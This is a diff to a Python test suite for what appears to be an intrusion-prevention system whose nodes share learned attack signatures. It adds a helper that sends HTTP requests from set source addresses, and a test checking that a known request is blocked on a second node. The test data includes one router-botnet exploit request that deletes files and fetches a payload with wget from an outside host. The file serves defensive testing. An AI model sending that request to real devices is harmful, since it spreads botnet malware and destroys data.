@@ -33,7 +33,7 @@ SIGNATURE = """
 WORM = b"WORM/3 spread now to every host there is, from " + b"north"
 BENIGN = b"WORMS are useful in a garden, says the gardener"
 #: Behind the attacker's wire.
-FIRST, SECOND, THIRD = "10.66.0.7", "10.66.0.8", "10.66.0.9"
+FIRST, SECOND, THIRD, FOURTH, FIFTH = (f"10.66.0.{number}" for number in range(7, 12))
 SHARED = """
 - name: shared-sesame
   pattern: 'open sesame [0-9]{4}'
@@ -91,6 +91,26 @@ def say(node, source, *words, port=PORT):
             mouth.sendto(one, (node.net.node.address(4), port))
 
 
+def requests_heard(node, source, *requests):
+    """Each said over a connection of its own from this address to port 80; those that the node's service got."""
+    attacker, told = node.net.attacker, []
+    attacker.namespace.run("ip", "addr", "replace", f"{source}/32", "dev", attacker.interface)
+    with node.net.node.namespace.entered():
+        service = socket.create_server(("0.0.0.0", 80))
+    service.settimeout(2)
+    with service:
+        for request in requests:
+            with attacker.namespace.entered():
+                client = socket.create_connection((node.net.node.address(4), 80), 3, (source, 0))
+            served, _ = service.accept()
+            with client, served:
+                served.settimeout(0.4)
+                client.sendall(request)
+                with contextlib.suppress(TimeoutError):
+                    told.append(served.recv(2_048))
+    return told
+
+
 def vaccines(node):
     return {row["begins_with"]: row for row in node.ask("vaccines.list")["vaccines"]}
 
@@ -125,6 +145,25 @@ def test_a_payload_found_at_one_node_is_dropped_at_the_other_from_another_source
     assert vaccine(fleet.two)["reason"].startswith("learned from node north: signature test-worm")
     assert vaccine(fleet.one)["seen_from"] == FIRST
     assert not {FIRST, SECOND, THIRD} & {s for s, row in fleet.two.blocks().items() if row["enforced"]}
+
+
+def test_a_request_that_a_shipped_signature_knows_is_dropped_at_the_other_node_and_its_neighbours_are_served(fleet):
+    request, ordinary = (
+        b"GET /shell?cd+/tmp;rm+-rf+*;wget+198.51.100.9/jaws HTTP/1.1\r\n\r\n",
+        b"GET / HTTP/1.1\r\n\r\n",
+    )
+
+    requests_heard(fleet.one, FOURTH, request)
+    head = request[:32].decode()
+    fleet.two.until(lambda: vaccines(fleet.two).get(head, {}).get("proven"), 5)
+    told = requests_heard(fleet.two, SECOND, ordinary, request, ordinary)
+
+    assert told == [ordinary, ordinary]
+    assert "router-botnet-exploit" in vaccines(fleet.two)[head]["reason"]
+    assert FOURTH in fleet.two.blocks(), "its first sender is banned as well"
+    fleet.two.json("vaccines", "release", vaccines(fleet.two)[head]["name"])
+    fleet.two.until(lambda: fleet.two.ask("reflex.status")["vaccines"] == 1, 5)
+    assert requests_heard(fleet.two, FIFTH, request) == [request]
 
 
 def test_why_and_the_lists_name_the_vaccine_and_its_teacher(fleet):
